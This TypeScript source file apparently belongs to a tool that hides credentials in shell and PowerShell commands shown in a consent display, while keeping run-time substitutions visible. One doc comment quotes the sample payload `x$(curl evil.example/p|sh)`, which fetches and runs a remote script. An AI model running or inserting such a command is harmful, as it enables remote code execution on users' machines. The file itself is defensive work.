// Part of spec's secret reader (see find-spec-secrets.ts): the display's reading of a value read partly at run time: its literal text hidden in place, each run-time part (`$(…)`, a backtick, `${…}`) shown as the display shows a command.
import { shownLineSecrets } from "./find-spec-secrets.js";
import { PWSH_NAME } from "./pwsh-values.js";
import {
  isLiteral,
  looksLikeKey,
  runTimeOpenerAt,
  type SecretHide,
  withoutKeys,
  withoutReferences,
} from "./secret-signs.js";
import {
  type CommandWord,
  deepTells,
  EXPANSION,
  expansionEnd,
  type Span,
  SUBSTITUTION_DEPTH,
} from "./shell-words.js";

/** True when a value a program or PowerShell assigns says something in clear: no `$variable`, `$(…)` or backtick read at run time. */
export function plainLiteral(text: string): boolean {
  return !EXPANSION.test(withoutReferences(text)) && isLiteral(text);
}

/** A shell variable's name, all of it. */
export const SHELL_NAME = /^[A-Za-z_]\w*$/;
/** A variable's name after its `$`. */
const RUN_TIME_NAME = /[A-Za-z_]\w*/y;

/** A stretch of literal text in a value read partly at run time, and whether a run-time part stands right before and right after it. */
interface LiteralStretch {
  text: string;
  afterPart: boolean;
  beforePart: boolean;
}

/**
 * The literal text of `text` (a word's value as the shell reads it), stretch by stretch, without
 * what the shell reads at run time: each `$NAME` (PowerShell's `$env:NAME` too), `$1`, `$?` and
 * the like, and each `${…}`, `$(…)`, `$[…]` and backtick substitution (see `expansionEnd`). One
 * pass. `at`, when given, is where each character of `text` was written on its line: a name ends
 * where a quote was passed over (`$X'abc'` reads `$X`, then `abc`).
 */
function literalStretches(text: string, at?: readonly number[]): LiteralStretch[] {
  const stretches: LiteralStretch[] = [];
  let current = "";
  let afterPart = false;
  const part = () => {
    if (current !== "") stretches.push({ text: current, afterPart, beforePart: true });
    current = "";
    afterPart = true;
  };
  let i = 0;
  while (i < text.length) {
    const c = text[i] as string;
    const next = text[i + 1] ?? "";
    const opener = runTimeOpenerAt(text, i);
    if (c === "$" && next === "{" && opener === "") {
      // A `${…}` a shell refuses (`${-  %VQ}`, see `runTimeOpenerAt`) runs nothing: literal text.
      const end = Math.max(i + 1, expansionEnd(text, i).end);
      current += text.slice(i, end);
      i = end;
    } else if (opener !== "" || (c === "$" && next === "[")) {
      // A run-time part, or bash's `$[…]` (arithmetic, read at run time too).
      i = Math.max(i + 1, expansionEnd(text, i).end);
      part();
    } else if (c === "$" && /[A-Za-z_]/.test(next)) {
      RUN_TIME_NAME.lastIndex = i + 1;
      RUN_TIME_NAME.test(text);
      const end = RUN_TIME_NAME.lastIndex;
      i += 1;
      while (i < end && (at === undefined || at[i] === (at[i - 1] as number) + 1)) i += 1;
      part();
      if (i < end) continue;
      // PowerShell's `$env:NAME`.
      if (/^env$/i.test(text.slice(i - 3, i)) && i - 4 === text.lastIndexOf("$", i) && text[i] === ":") {
        RUN_TIME_NAME.lastIndex = i + 1;
        if (RUN_TIME_NAME.test(text)) i = RUN_TIME_NAME.lastIndex;
      }
    } else if (c === "$" && /[0-9$!?#*@-]/.test(next)) {
      i += 2;
      part();
    } else {
      current += c;
      i += 1;
    }
  }
  if (current !== "") stretches.push({ text: current, afterPart, beforePart: false });
  return stretches;
}

/**
 * A key kind's prefix, ending at its separator (`sk-`, `sk-proj-`, `ghp_`, `xoxb-`, `github_pat_`):
 * one to three short words of small letters, no digit, so the head of a key itself (`sk-ab12cd34-`,
 * `sk-proj-abc123-`) is not one; see `labelBesideRunTime`.
 */
const KEY_PREFIX = /^(?:[a-z]{1,6}[-_]){1,3}$/;
/**
 * A label after a run-time value: a separator (not `:`, which starts the password of `$USER:pass`),
 * then a word of at most 5 letters all of one case, a version (`v2`) or a short number: `_v2`,
 * `@prod`, `-dev`, `-1`; not `_hunt2` or `:Pass99`.
 */
const SHORT_LABEL = /^[-_.@](?:[a-z]{1,5}|[A-Z]{1,5}|v\d{1,2}|\d{1,3})$/;
/**
 * True for one part of a path under a run-time directory that says nothing a credential would: at
 * most 32 characters of small letters, digits, `_`, `-` and `.` (a file's extension may be any
 * case), and no run of more than 3 holding both a letter and a digit: `secret.txt`, `app`,
 * `.secrets`, `id_rsa`, `..`, `v2`, `x86_64`; not `hunter2`, `hunter2SECRET`, `SECRETPASS` or
 * `hunter2secret.txt` (r55-7).
 */
function plainPathPart(part: string): boolean {
  const name = part.replace(/\.[A-Za-z0-9]{1,5}$/, "");
  return (
    part.length <= 32 &&
    /^[a-z0-9_.-]*$/.test(name) &&
    !name.split(/[_.-]/).some((run) => run.length > 3 && /[a-z]/.test(run) && /\d/.test(run))
  );
}

/**
 * True when `stretch`, literal text beside a run-time part of a value, says nothing a credential
 * would, so the value is read as run-time text (r50 F6, tightened by r54 G1/G2): a path under a
 * run-time directory, after the last run-time part, each of its parts plain (`"$HOME/secret.txt"`,
 * `"$PGPASS_DIR/app"`; not `$X/hunter2SECRET` or `$A/x$B`: see `plainPathPart`); a key kind's
 * prefix alone before the run-time rest (`"sk-$PROJECT_KEY"`: see `KEY_PREFIX`, and a key shape
 * must take it with a key after it); or a short label after the run-time value and before nothing
 * (`${T}_v2`, `"${DB_PASS}@prod"`: see `SHORT_LABEL`). Any other literal text beside run-time text
 * says something (`abc$def`, `tok9q$cd`, `"Passw0rd$1"`, `$X'hunter2SECRET'`, `${U}:Pass99`).
 */
function labelBesideRunTime({ text, afterPart, beforePart }: LiteralStretch): boolean {
  if (afterPart && !beforePart && /^\/\S*$/.test(text))
    return text.length <= 256 && text.slice(1).split("/").every(plainPathPart);
  if (beforePart && !afterPart && KEY_PREFIX.test(text)) return looksLikeKey(text + "0".repeat(40));
  return afterPart && !beforePart && SHORT_LABEL.test(text);
}

/**
 * True when a value the shell reads partly at run time also holds literal text that says
 * something (`abc$def`, `"${PREFIX}abc123"`: a credential holding a `$`, or one written around a
 * variable), not only run-time text, punctuation, an auth scheme (`$TOKEN`, `$(cat f)`,
 * `"${TOKEN}"`, `"$USER:$PASS"`, `"Bearer $TOKEN"`) or a path, a key prefix or a label beside it
 * (see `labelBesideRunTime`).
 */
export function saysBesideRunTime(text: string, at?: readonly number[]): boolean {
  return literalStretches(text, at).some((stretch, index) => {
    const says =
      index === 0 && !stretch.afterPart
        ? stretch.text.replace(/^\s*(?:Bearer|Basic|Token)\b/i, "")
        : stretch.text;
    return /[A-Za-z0-9]/.test(says) && !labelBesideRunTime(stretch);
  });
}

/**
 * A word's quotes read once (see `quoteStep`): for each position of the word where a step starts
 * (and where the last one ends), what closes the quote open there ("" for none); undefined inside a
 * step. `changes[k]` counts how often that changed before position `word.start + k`. One pass over
 * the word, so each of its spans asks `writtenWhole` and `writtenInQuote` in constant time.
 */
export interface WordQuotes {
  close: (string | undefined)[];
  changes: Int32Array;
}

/** See `WordQuotes`. */
export function wordQuotes(line: string, word: CommandWord): WordQuotes {
  const size = word.end - word.start + 1;
  const close: (string | undefined)[] = new Array(size).fill(undefined);
  const changes = new Int32Array(size);
  let open = "";
  let count = 0;
  let i = word.start;
  while (i < word.end) {
    close[i - word.start] = open;
    changes[i - word.start] = count;
    const read = quoteStep(line, i, open);
    if (read.close !== open) count += 1;
    open = read.close;
    i += read.step;
  }
  if (i === word.end) {
    close[size - 1] = open;
    changes[size - 1] = count;
  }
  return { close, changes };
}

/**
 * Where, on `line`, the text that gives `span` of `word` (a word read partly at run time) is
 * written, quotes and all: from just after the value's character before the span (the word's
 * start) to the value's character after it (the word's end). Undefined unless a quote is open at
 * neither end, so the text can be replaced by a reference and filled back byte for byte
 * (`$X'hunter2'` → `${PASSWORD}`). Constant time given the word's quotes (`wordQuotes`).
 */
export function writtenWhole(
  line: string,
  word: CommandWord,
  span: Span,
  quotes: WordQuotes = wordQuotes(line, word),
): { start: number; end: number } | undefined {
  const start = span.start > 0 ? (word.at[span.start - 1] as number) + 1 : word.start;
  const end = span.end < word.value.length ? (word.at[span.end] as number) : word.end;
  if (start >= end) return undefined;
  const atStart = quotes.close[start - word.start];
  const atEnd = quotes.close[end - word.start];
  return atStart === "" && atEnd === "" ? { start, end } : undefined;
}

/**
 * Where, on `line`, the text that gives `span` of `word` is written (as `writtenWhole` reads it),
 * when that text lies inside one quote the word opens before it and closes after it, the quote never
 * closed between (`sh -c "srv -e TOKEN=\"X\"; echo ok"`: `\"X\"`): replaced by a reference there,
 * it fills back byte for byte, where writing the word again in '…' would not (r64-4). Undefined
 * otherwise. Constant time given the word's quotes (`wordQuotes`).
 */
export function writtenInQuote(
  line: string,
  word: CommandWord,
  span: Span,
  quotes: WordQuotes = wordQuotes(line, word),
): { start: number; end: number } | undefined {
  if (span.end <= span.start) return undefined;
  const start = span.start > 0 ? (word.at[span.start - 1] as number) + 1 : (word.at[0] as number);
  const end =
    span.end < word.value.length ? (word.at[span.end] as number) : (word.at[span.end - 1] as number) + 1;
  if (start >= end || start < word.start || end > word.end) return undefined;
  const inside = quotes.close[start - word.start];
  return inside !== undefined &&
    inside !== "" &&
    quotes.close[end - word.start] === inside &&
    quotes.changes[end - word.start] === quotes.changes[start - word.start]
    ? { start, end }
    : undefined;
}

/**
 * One step of a shell word's quotes at `i` of `line`, `close` closing the quote open there ("" for
 * none): how many characters it takes and what closes the quote open after it. A `\` and the
 * character after it, a substitution (`$(…)`, `${…}`, `$[…]`, a backtick's) and `$$` or `$` with
 * another special parameter (`$?`, `$1`: so `$$'…'` is `$$`, then a '…' quote, r51 F2) are one step.
 */
export function quoteStep(line: string, i: number, close: string): { step: number; close: string } {
  const c = line[i] as string;
  const next = line[i + 1] ?? "";
  if (close === "'" || close === "$'") {
    if (close === "$'" && c === "\\") return { step: 2, close };
    return { step: 1, close: c === "'" ? "" : close };
  }
  if (c === "\\") return { step: 2, close };
  if (c === "`" || (c === "$" && /[{([]/.test(next)))
    return { step: Math.max(1, expansionEnd(line, i).end - i), close };
  if (c === "$" && /[0-9$!?#*@-]/.test(next)) return { step: 2, close };
  if (close === '"') return { step: 1, close: c === '"' ? "" : close };
  if (c === "'" || c === '"') return { step: 1, close: c };
  if (c === "$" && (next === "'" || next === '"')) return { step: 2, close: next === "'" ? "$'" : '"' };
  return { step: 1, close };
}

/** True when the shell word starting at `from` leaves a quote open at the end of `line`. One pass. */
export function quoteOpenAtEnd(line: string, from: number): boolean {
  let close = "";
  for (let i = from; i < line.length; ) {
    const read = quoteStep(line, i, close);
    close = read.close;
    i += read.step;
  }
  return close !== "";
}

/** What stands at `i` of a line as a display reads it: `step` characters, literal text, a quote or a run-time part (`quoted` when it stands in "…"). */
type ShownStep = { step: number; kind: "literal" | "quote" | "part"; quoted?: true } | undefined;

/**
 * For the display only (r50 F1): `line`'s text at `[from, to)`, a value read partly at run time,
 * with each run-time part and each quote kept as written (each part through `part`) and each
 * stretch of literal text between them written as `literal(text)`, so a payload beside a
 * credential (`x$(curl evil.example/p|sh)`) stays in sight while the credential does not.
 * `walk.read(i)` says what stands at `i`; it is called in order from `walk.at`, which is left at
 * `to` (or past the line, when the walk could not go on: nothing later is read), so several values
 * of one word cost one pass over it. Undefined when no run-time part stands there, or one runs
 * over either end.
 */
export function shownInPlace(
  line: string,
  walk: { at: number; read: (i: number) => ShownStep },
  [from, to]: [number, number],
  literal: (text: string) => string,
  part: (text: string, quoted: boolean) => string,
): string | undefined {
  if (walk.at > from) return undefined;
  // What stands there, in order: literal text merged, each quote and part alone; `hide` is called
  // only once a part is known to stand there.
  const pieces: { text: string; kind: "literal" | "quote" | "part"; quoted: boolean }[] = [];
  for (let i = walk.at; i < to; ) {
    const next = walk.read(i);
    if (next === undefined || (i < from && i + next.step > from) || i + next.step > to) {
      walk.at = line.length + 1;
      return undefined;
    }
    const text = line.slice(i, i + next.step);
    const last = pieces.at(-1);
    if (i >= from && next.kind === "literal" && last?.kind === "literal") last.text += text;
    else if (i >= from) pieces.push({ text, kind: next.kind, quoted: next.quoted === true });
    i += next.step;
  }
  walk.at = to;
  if (!pieces.some((piece) => piece.kind === "part")) return undefined;
  // A run-time part left open (a line the shell refuses) runs to the value's end, so only the last
  // can be: then the value is hidden whole, as one reference (r61: `TOKEN="abc$(x` was shown as two).
  const last = pieces.at(-1);
  if (to === line.length && last?.kind === "part" && partLeftOpen(line, to - last.text.length))
    return undefined;
  return pieces
    .map(({ text, kind, quoted }) =>
      kind === "literal" ? literal(text) : kind === "part" ? part(text, quoted) : text,
    )
    .join("");
}

/** Whether the run-time part at `at` of `line` is a substitution, `${…}` or `$[…]` that never closes (it runs to the line's end). */
function partLeftOpen(line: string, at: number): boolean {
  const c = line[at];
  const opens = c === "`" || (c === "$" && /[{([]/.test(line[at + 1] ?? ""));
  return opens && !expansionEnd(line, at).closed;
}

/** How deep the display's reading of run-time parts is now (see `shownShellPart`). */
export let shownDepth = 0;
/** At the start of a `${…}`: `${`, an indirection or length mark, a name (or a positional or special parameter), an index and an operator. */
const BRACED_HEAD =
  /^\$\{[!#]?(?:[A-Za-z_]\w*|\d+|[@*#?$!-])(?:\[[^\]]*\])?(?::?[-=?+]|##?|%%?|\/[/#%]?|\^\^?|,,?|@|:)?/;

/** For the display: a text past `SUBSTITUTION_DEPTH` (see `deepTells`), hidden whole through `literal`, or shown with its key shapes hidden. */
export function shownDeep(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
): string {
  return deepTells(text) ? literal(text) : withoutKeys(text, hide);
}

/**
 * For the display only (r51 F1): a run-time part of a shell value, as the consent view shows it.
 * Every run-time part stays in sight, itself shown as the display shows a command: a `$(…)` or
 * backtick substitution is its opener, the display reading of its inner text (`shownLineSecrets`:
 * a `--password X` or `-u user:X` inside is hidden, a payload kept) and its closer, read so again
 * inside; a `${NAME<op>word}` keeps `${NAME<op>` and `}`, and its word, literal text to the shell,
 * is read as a value is (`shownShellText`: its literal text hidden by `literal`, its own run-time
 * parts shown so). Depth is bounded (past `SUBSTITUTION_DEPTH` the inner text is read flat: `shownDeep`)
 * and each level reads its text once: linear time. Only a bare `$NAME`, `${NAME}`, `$1` or an
 * arithmetic `$((…))`/`$[…]` is opaque (its key shapes hidden). Literal credential text is always
 * hidden. The export keeps its whole-value rule (it never reads this).
 */
export function shownShellPart(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
  quoted = false,
): string {
  const substitution = text.startsWith("`")
    ? "`"
    : text.startsWith("$(") && !text.startsWith("$((")
      ? ")"
      : "";
  if (substitution !== "") {
    const open = substitution === "`" ? 1 : 2;
    if (text.length <= open || !text.endsWith(substitution)) return literal(text);
    const inner = text.slice(open, -1);
    if (substitution === "`" && inner.includes("\\")) return shownEscapedPart(text, hide, literal, quoted);
    return text.slice(0, open) + shownInner(inner, hide, literal) + substitution;
  }
  // A `${…}` a shell refuses as a bad substitution (`${-  %VQ}`, see `runTimeOpenerAt`) runs nothing: its text is literal.
  if (text.startsWith("${") && runTimeOpenerAt(text, 0) === "") return literal(text);
  if (text.startsWith("${")) {
    const head = BRACED_HEAD.exec(text)?.[0] ?? "${";
    if (!text.endsWith("}") || text.length - 1 < head.length) return literal(text);
    const word = text.slice(head.length, -1);
    if (word === "") return withoutKeys(text, hide);
    return (
      head +
      deeper(
        () => shownShellText(word, hide, literal),
        () => shownDeep(word, hide, literal),
      ) +
      "}"
    );
  }
  return withoutKeys(text, hide);
}

/** `read()` one level deeper in the display's reading of run-time parts; `tooDeep()` past `SUBSTITUTION_DEPTH`. */
export function deeper<T>(read: () => T, tooDeep: () => T): T {
  if (shownDepth >= SUBSTITUTION_DEPTH) return tooDeep();
  shownDepth += 1;
  try {
    return read();
  } finally {
    shownDepth -= 1;
  }
}

/**
 * A backtick substitution whose text carries its level's escapes (`` \` ``, `\$`, `\\`, and `\"` in
 * "…"; r55 R55-2), as the display reads a command: read as a word written so (see `commandWords`:
 * its command read unescaped, each word where it is written), so what is hidden is replaced where
 * it stands and every other character is kept as written (filled back, the line is given back byte
 * for byte). Past `SUBSTITUTION_DEPTH` read flat (`shownDeep`); when the reading does not keep its quotes, hidden as literal text.
 */
function shownEscapedPart(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
  quoted: boolean,
): string {
  const wrapped = quoted ? `"${text}"` : text;
  return deeper(
    () => {
      const safe = shownLineSecrets(wrapped, hide)?.safe;
      if (safe === undefined) return text;
      if (!quoted) return safe;
      return safe.length >= 2 && safe.startsWith('"') && safe.endsWith('"')
        ? safe.slice(1, -1)
        : literal(text);
    },
    () => shownDeep(text, hide, literal),
  );
}

/** A substitution's inner text as the display reads a command (see `shownShellPart`). */
function shownInner(inner: string, hide: SecretHide | undefined, literal: (text: string) => string): string {
  if (inner.trim() === "") return inner;
  return deeper(
    () => shownLineSecrets(inner, hide)?.safe ?? inner,
    () => shownDeep(inner, hide, literal),
  );
}

/** `text` (a `${NAME<op>word}`'s word) read as a shell word: quotes kept, literal text through `literal`, each run-time part through `shownShellPart`. One pass. */
function shownShellText(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
): string {
  const read = shellStepper(text);
  let out = "";
  let pending = "";
  for (let i = 0; i < text.length; ) {
    const next = read(i);
    const step = Math.min(next?.step ?? text.length, text.length - i);
    const piece = text.slice(i, i + step);
    if (next === undefined || next.kind === "literal") pending += piece;
    else {
      if (pending !== "") out += literal(pending);
      pending = "";
      out += next.kind === "part" ? shownShellPart(piece, hide, literal, next.quoted === true) : piece;
    }
    i += step;
  }
  return pending === "" ? out : out + literal(pending);
}

/** For the display only (r51 F1): a run-time part of a PowerShell "…" value, as `shownShellPart` shows a shell's: a `$(…)` is `$(`, the display reading of its inner text and `)`; a `${…}` or `$name` is opaque (its key shapes hidden). */
export function shownPwshPart(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
): string {
  return text.startsWith("$(") && text.endsWith(")") && text.length > 2
    ? `$(${shownInner(text.slice(2, -1), hide, literal)})`
    : withoutKeys(text, hide);
}

/**
 * A reader of a shell word from its start, for `shownInPlace`: `$(…)`, `${…}`, `$[…]`, a
 * backtick's, `$NAME` and `$1`-like parts are run-time parts outside '…'; quotes (`'`, `"`, `$'`,
 * `$"`) are quotes; a backslash and the character after it are literal text.
 */
export function shellStepper(line: string): (i: number) => ShownStep {
  let close = "";
  return (i) => {
    const c = line[i] as string;
    const next = line[i + 1] ?? "";
    if (close === "'" || close === "$'") {
      if (c === "'") close = "";
      else return { step: close === "$'" && c === "\\" ? 2 : 1, kind: "literal" };
      return { step: 1, kind: "quote" };
    }
    // In "…" a backslash escapes only `$`, a backtick, `"`, a backslash and a line break: before
    // any other character (`"a\;b"`) it is itself, one character.
    if (c === "\\") return { step: close === '"' && !/["\\$`\n]/.test(next) ? 1 : 2, kind: "literal" };
    if (c === "`" || (c === "$" && /[{([]/.test(next)))
      return {
        step: Math.max(1, expansionEnd(line, i).end - i),
        kind: "part",
        ...(close === '"' ? { quoted: true as const } : {}),
      };
    if (c === "$" && /[A-Za-z_]/.test(next)) {
      RUN_TIME_NAME.lastIndex = i + 1;
      RUN_TIME_NAME.test(line);
      return { step: RUN_TIME_NAME.lastIndex - i, kind: "part" };
    }
    if (c === "$" && /[0-9$!?#*@-]/.test(next)) return { step: 2, kind: "part" };
    if (close === '"') {
      if (c !== '"') return { step: 1, kind: "literal" };
      close = "";
      return { step: 1, kind: "quote" };
    }
    if (c === "'" || c === '"') {
      close = c;
      return { step: 1, kind: "quote" };
    }
    if (c === "$" && (next === "'" || next === '"')) {
      close = next === "'" ? "$'" : '"';
      return { step: 2, kind: "quote" };
    }
    return { step: 1, kind: "literal" };
  };
}

/**
 * A reader of the inside of a PowerShell "…" string ending at `end`, for `shownInPlace`: `$(…)`
 * (parentheses paired), `${…}` and `$name` (`$env:NAME` too) are run-time parts; a backtick and
 * the character after it, and `""`, are literal text. Undefined for a part left open.
 */
export function pwshStepper(line: string, end: number): (i: number) => ShownStep {
  return (i) => {
    const c = line[i] as string;
    const next = line[i + 1] ?? "";
    if (c === "`" || (c === '"' && next === '"')) return { step: 2, kind: "literal" };
    if (c !== "$" || !(next === "(" || next === "{" || PWSH_NAME.test(next)))
      return { step: 1, kind: "literal" };
    let j = i + 1;
    if (next === "(") {
      for (let depth = 0; j < end; j += 1) {
        if (line[j] === "(") depth += 1;
        else if (line[j] === ")" && --depth === 0) break;
      }
    } else if (next === "{") while (j < end && line[j] !== "}") j += 1;
    else {
      while (j < end && PWSH_NAME.test(line[j] as string)) j += 1;
      j -= 1;
    }
    return j < end ? { step: j + 1 - i, kind: "part" } : undefined;
  };
}
